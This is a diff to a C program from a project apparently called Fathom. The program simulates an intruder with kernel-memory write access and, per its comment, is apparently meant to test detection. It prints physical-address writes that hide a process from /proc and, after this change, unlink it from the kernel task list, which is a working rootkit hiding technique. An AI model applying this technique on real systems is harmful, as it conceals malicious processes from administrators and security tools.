@@ -2,8 +2,8 @@
 /* Copyright (c) 2026 The Fathom authors */
 /*
  * What an intruder who can write to the kernel's memory could do to hide a
- * process from listings of /proc, while it goes on: prints its number and name,
- * and what change_memory.c is to change.
+ * process from listings of /proc and from the list of processes, while it goes
+ * on: prints its number and name, and what change_memory.c is to change.
  *
  *   hide NUMBER NAME
  *   put PHYSICAL SIZE VALUE
@@ -20,6 +20,7 @@
 int main(void)
 {
 	struct task_struct *p, *last = NULL;
+	struct list_head *next, *prev;
 
 	for_each_process (p)
 		if (p->mm && p->pid > 1)
@@ -29,5 +30,9 @@ int main(void)
 	printf("hide %d %s\n", last->pid, last->comm);
 	printf("put %lx 8 0\n",
 	       __pa(&last->thread_pid->tasks[PIDTYPE_TGID].first));
+	next = last->tasks.next;
+	prev = last->tasks.prev;
+	printf("put %lx 8 %lx\n", __pa(&prev->next), (unsigned long)next);
+	printf("put %lx 8 %lx\n", __pa(&next->prev), (unsigned long)prev);
 	return 0;
 }
